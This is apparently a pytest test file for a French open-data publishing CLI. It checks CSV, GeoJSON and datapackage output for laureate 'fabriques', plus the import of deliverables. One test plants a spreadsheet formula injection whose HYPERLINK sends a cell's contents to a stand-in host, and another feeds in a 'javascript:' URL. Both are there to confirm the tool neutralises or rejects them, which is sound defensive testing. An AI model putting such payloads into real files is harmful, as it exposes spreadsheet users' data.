"""``fabriques laureats publier`` and ``fabriques laureats livrables importer`` through the
CLI runner, on both backends: the real published list plus synthetic decided laureates
(``tests.laureates_data``). The published files are validated against their own Table
Schema by ``frictionless``, the GeoJSON against RFC 7946, and no column may hold an e-mail.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import re
from pathlib import Path

import frictionless
import pytest
import shapely
from sqlalchemy import func, select, update

import geodata.files
from app.db import get_engine
from geodata.policy import CATEGORIES
from geodata.publication import COLUMNS, SOURCE_BOTH, SOURCE_DECIDED, SOURCE_PUBLISHED
from geodata.storage.deliverables import deliverables_of
from geodata.storage.models import Deliverable, Laureate
from tests.laureates_data import DECIDED, add_decided, load_laureates
from tests.support import assert_rfc7946

pytestmark = pytest.mark.shared_data

EMAIL = re.compile(r"[^@\s]+@[^@\s]+\.[a-z]{2,}", re.I)


@pytest.fixture(autouse=True)
def csv_cell_limit_kept():
    """frictionless raises the csv module's cell limit for the whole process when its CSV
    parser is imported; the batch readers refuse a cell over the standard limit (tests/
    geodata/test_plain_csv.py), so the limit is put back after each test here."""
    limit = csv.field_size_limit()
    yield
    csv.field_size_limit(limit)


@pytest.fixture
def laureates(app, data_dir, tmp_path):
    """The app's database with the real list and the synthetic decided laureates."""
    with app.app_context():
        load_laureates(get_engine(), data_dir, tmp_path)
        add_decided(get_engine())
    return app


def published_rows(app) -> int:
    with app.app_context(), get_engine().connect() as connection:
        return connection.scalar(select(func.count()).select_from(Laureate))


def test_publish_writes_valid_open_data_each_fabrique_once(laureates, runner, tmp_path):
    folder = tmp_path / "publication"
    result = runner.invoke(args=["laureats", "publier", "-o", str(folder)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == [
        "datapackage.json", "fabriques.csv", "fabriques.geojson", "schema.json"]

    report = frictionless.validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])

    text = (folder / "fabriques.csv").read_bytes().decode("utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [column.name for column in COLUMNS]
    by_id = {row["id"]: row for row in rows}
    # 382 published + 3 decided in the table; the one that is « meme » is published once
    assert published_rows(laureates) == 385 and len(rows) == 384 == len(by_id)
    assert "ds-900001" not in by_id
    hublot = by_id["fabt-02"]
    assert (hublot["source"], hublot["vague"], hublot["type"], hublot["siret"],
            hublot["montant_annee_1"]) == (SOURCE_BOTH, "4", "FNT", "12345678900017", "60000")
    # and the decision's place, an address where the list gives the commune's centroid
    assert (hublot["precision"], hublot["lon"], hublot["lat"]) == ("address", "7.262", "43.7034")
    assert by_id["ds-900002"]["source"] == by_id["ds-900003"]["source"] == SOURCE_DECIDED
    assert by_id["fabt-03"]["source"] == SOURCE_PUBLISHED and by_id["fabt-03"]["vague"] == ""
    panier = by_id["ds-900003"]
    assert (panier["departement_nom"], panier["region_nom"], panier["precision"]) == (
        "Bouches-du-Rhône", "Provence-Alpes-Côte d'Azur", "address")
    assert {row["categorie"] for row in rows} <= set(CATEGORIES)
    assert len({row["categorie"] for row in rows}) > 1
    unplaced = [row for row in rows if row["lon"] == ""]
    assert [row["commune_code"] for row in unplaced] == ["97801"]  # Saint-Martin
    assert unplaced[0]["lat"] == unplaced[0]["precision"] == ""
    # The published list has an e-mail in one project's name: it is not published
    assert by_id["fabt-109"]["nom"] == ("SCENE NATIONALE 61 bdd h.s = modifier mail "
                                        "[adresse électronique retirée]")
    assert by_id["fabt-370"]["nom"] == "Le Touche@tout, tiers lieu rural"
    for row in rows:
        assert not any(EMAIL.search(value) for value in row.values()), row["id"]

    document = json.loads((folder / "fabriques.geojson").read_text(encoding="utf-8"))
    assert_rfc7946(document)
    features = {feature["id"]: feature for feature in document["features"]}
    assert list(features) == list(by_id)
    assert features[unplaced[0]["id"]]["geometry"] is None
    assert features["ds-900003"]["geometry"] == {"type": "Point",
                                                 "coordinates": [5.3686, 43.299]}
    assert features["fabt-02"]["properties"]["siret"] == "12345678900017"

    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"][0]["path"] == \
        "https://www.etalab.gouv.fr/licence-ouverte-open-licence/"
    assert {"laureates", "decisions-jury", "communes"} <= {s["title"]
                                                           for s in package["sources"]}
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T.*", package["created"])
    schema = json.loads((folder / "schema.json").read_text(encoding="utf-8"))
    assert all(field["description"] for field in schema["fields"])
    policy = next(field for field in schema["fields"] if field["name"] == "politique")
    assert "current : Règles actuelles" in policy["description"]  # « current » said in words
    assert {row["politique"] for row in rows} <= set(policy["constraints"]["enum"])


def test_a_row_breaking_the_schema_is_caught_by_the_validation(laureates, runner, tmp_path):
    """The validation can fail: a SIRET of 13 digits and an unknown type are reported."""
    folder = tmp_path / "publication"
    assert runner.invoke(args=["laureats", "publier", "-o", str(folder)]).exit_code == 0
    path = folder / "fabriques.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("98765432100011", "9876543210001")
                    .replace(",FT,4,", ",TL,4,"), encoding="utf-8")
    report = frictionless.validate(folder / "datapackage.json")
    assert not report.valid
    assert {error[1] for error in report.flatten(["rowNumber", "fieldName"])} == {
        "siret", "type"}


def test_a_name_a_spreadsheet_would_run_is_published_disarmed(laureates, runner, tmp_path):
    """A name typed as a formula by an applicant would run in the spreadsheet of whoever opens
    the published CSV: it gets a leading apostrophe there, and stays as typed in the
    GeoJSON."""
    formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
    with laureates.app_context(), get_engine().begin() as connection:
        connection.execute(update(Laureate).where(Laureate.id == "ds-900002")
                           .values(name=formula))
    folder = tmp_path / "publication"
    assert runner.invoke(args=["laureats", "publier", "-o", str(folder)]).exit_code == 0
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(
        (folder / "fabriques.csv").read_text(encoding="utf-8")))}
    assert rows["ds-900002"]["nom"] == "'" + formula
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values()
                   for value in row.values() if value and not value[1:2].isdigit())
    document = json.loads((folder / "fabriques.geojson").read_text(encoding="utf-8"))
    named = {f["id"]: f["properties"]["nom"] for f in document["features"]}
    assert named["ds-900002"] == formula
    report = frictionless.validate(folder / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_a_polygon_would_be_published_counter_clockwise_and_valid():
    """Synthetic shapes: a clockwise square and a bow tie come out valid and oriented."""
    from geodata.publication import rfc7946_geometry

    clockwise = {"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [1, 0], [0, 0]]]}
    assert not shapely.Polygon(clockwise["coordinates"][0]).exterior.is_ccw
    bow_tie = {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]}
    for geometry in (clockwise, bow_tie):
        fixed = rfc7946_geometry(geometry)
        assert_rfc7946({"type": "FeatureCollection", "features": [
            {"type": "Feature", "id": "x", "geometry": fixed, "properties": {}}]})
    assert rfc7946_geometry(None) is None


def test_publish_without_laureates_writes_nothing(runner, tmp_path):
    result = runner.invoke(args=["laureats", "publier", "-o", str(tmp_path / "vide")])
    assert result.exit_code == 1 and "aucun lauréat chargé" in result.output
    assert not (tmp_path / "vide").exists()


def test_a_publication_that_fails_midway_leaves_the_previous_one_whole(laureates, runner,
                                                                       tmp_path, monkeypatch):
    folder = tmp_path / "publication"
    assert runner.invoke(args=["laureats", "publier", "-o", str(folder)]).exit_code == 0
    before = {path.name: path.read_bytes() for path in folder.iterdir()}

    def disk_full_at_the_schema(path, *args, **kwargs):  # the third of the four files
        if Path(path).name.startswith(".schema.json."):
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return open(path, *args, **kwargs)

    monkeypatch.setattr(geodata.files, "open", disk_full_at_the_schema, raising=False)
    result = runner.invoke(args=["laureats", "publier", "-o", str(folder)])
    assert result.exit_code == 1
    assert result.output.startswith(f"Erreur — {folder} : publication impossible (disque plein")
    assert "la publication précédente, s'il y en a une, est intacte" in result.output
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before


def deliverables(app) -> int:
    with app.app_context(), get_engine().connect() as connection:
        return connection.scalar(select(func.count()).select_from(Deliverable))


def test_import_deliverables_all_or_nothing(laureates, runner, tmp_path):
    bad = tmp_path / "livrables-faux.csv"
    bad.write_text("fabrique_id,titre,url,licence\n"
                   "fabt-02,Guide du fablab,https://exemple.org/guide,Licence Ouverte 2.0\n"
                   "fabt-9999,Inconnue,https://exemple.org/x,cc-by-4.0\n"
                   "fabt-03,Méthode,javascript:alert(1),cc0-1.0\n"
                   "fabt-03,Méthode,https://exemple.org/m,WTFPL\n", encoding="utf-8")
    refused = runner.invoke(args=["laureats", "livrables", "importer", str(bad)])
    assert refused.exit_code == 1
    for words in ("ligne 3 : Fabrique inconnue : 'fabt-9999'", "ligne 4 : adresse invalide",
                  "ligne 5 : licence inconnue"):
        assert words in refused.output
    assert "ligne 2" not in refused.output and deliverables(laureates) == 0

    good = tmp_path / "livrables.csv"
    good.write_text("fabrique_id;titre;url;licence\n"
                    "fabt-02;Guide du fablab;https://exemple.org/guide;Licence Ouverte 2.0\n"
                    "ds-900003;Plans des ateliers;http://exemple.org/plans;cc-by-sa-4.0\n"
                    "fabt-03;Compte rendu;https://exemple.org/cr;\n", encoding="utf-8")
    result = runner.invoke(args=["laureats", "livrables", "importer", str(good)])
    assert result.exit_code == 0, result.output
    assert "3 livrables enregistrés" in result.output
    with laureates.app_context():
        (hublot,) = deliverables_of(get_engine(), "fabt-02")
        (report,) = deliverables_of(get_engine(), "fabt-03")
    assert (hublot.title, hublot.url, hublot.licence_label) == (
        "Guide du fablab", "https://exemple.org/guide", "Licence Ouverte 2.0")
    assert report.licence == "autre"
    assert DECIDED[0]["id"] == "ds-900001"  # the « meme » one is not an id to import to
    same = tmp_path / "meme.csv"
    same.write_text("fabrique_id,titre,url,licence\nds-900001,X,https://exemple.org,\n",
                    encoding="utf-8")
    assert runner.invoke(args=["laureats", "livrables", "importer", str(same)]).exit_code == 1
